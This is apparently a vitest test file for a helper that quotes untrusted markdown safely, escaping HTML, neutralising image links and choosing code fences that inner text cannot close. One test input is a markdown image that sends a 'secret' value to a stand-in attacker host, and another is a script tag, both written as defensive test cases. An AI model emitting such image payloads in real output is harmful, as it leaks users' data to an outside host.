import { describe, expect, test } from "vitest";
import { fenced, quoteMarkdown } from "./quote-markdown.ts";

describe("Markdown of somebody else's", () => {
  test.each([
    ["is quoted line by line", "# Title\n\ntext\n", "> # Title\n>\n> text"],
    ["holds no HTML", "a <script>x</script>", "> a &lt;script>x&lt;/script>"],
    ["fetches no image", "![x](http://evil.example/?q=secret)", "> !\\[x](http://evil.example/?q=secret)"],
    ["keeps code as it is", "use `a<b>` and <i>", "> use `a<b>` and &lt;i>"],
    ["keeps blocks of code as they are", "```html\n<b>\n```\n<b>", "> ```html\n> <b>\n> ```\n> &lt;b>"],
    ["is not fooled by a shorter fence inside", "````\n```\n<b>\n````\n<b>", "> ````\n> ```\n> <b>\n> ````\n> &lt;b>"],
    ["is not fooled by a lone backtick", "a ` <b> c", "> a ` &lt;b> c"],
  ])("%s", (_what, text, expected) => {
    expect(quoteMarkdown(text)).toBe(expected);
  });
});

test("a block ends nowhere but at its end, whatever stands in it", () => {
  expect(fenced("plain", "json")).toBe("```json\nplain\n```");
  expect(fenced("```\ninside\n```\n")).toBe("````\n```\ninside\n```\n````");
  expect(fenced("a ````` b")).toBe("``````\na ````` b\n``````");
});
